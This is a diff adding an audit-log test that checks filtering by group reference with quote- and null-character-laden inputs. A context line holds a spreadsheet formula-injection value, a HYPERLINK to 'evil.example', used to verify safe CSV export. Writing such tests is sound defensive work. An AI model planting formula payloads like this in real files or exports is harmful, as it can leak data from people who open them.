@@ -215,6 +215,24 @@ describe('test/journeys/audit', () => {
     expect((await platform.call('GET', log)).status).toBe(404);
   });
 
+  it('tells of a group what was done by it and to it, and nothing of another', async () => {
+    for (const groupRef of ['dön"e', 'dön']) {
+      const asked = await world.platform.call('POST', '/projects/audited/erasures', { groupRef });
+      expect(asked.status).toBe(202);
+    }
+    await test.database.raw(
+      `INSERT INTO audit_log (project_id, id, action, target_type, target_id, actor_kind, group_ref, details)
+       SELECT $1, id, 'connection.refused', 'connection', 'x', 'jwt', who, '{"said":"\\u0000 \\"groupRef\\":\\"dön\\""}'
+       FROM unnest($2::uuid[], ARRAY['dön', 'other']) AS of (id, who)`,
+      [world.platform.projectId, [newId(), newId()]],
+    );
+    const found = await read(`?groupRef=dön&action=erasure.started`);
+    expect(found).toMatchObject([{ actor: { kind: 'apiKey' }, details: { groupRef: 'dön' } }]);
+    expect(await read(`?groupRef=${encodeURIComponent('dön"e')}&action=erasure.started`)).toHaveLength(1);
+    const did = await read('?groupRef=dön&action=connection.refused');
+    expect(did).toMatchObject([{ actor: { groupRef: 'dön' } }]);
+  });
+
   it('is exported whole or for a time, as JSON or as CSV in which a spreadsheet finds no formula', async () => {
     const hostile = '=HYPERLINK("https://evil.example?x,y")\nnext';
     const ids = Array.from({ length: 1_200 }, () => newId());
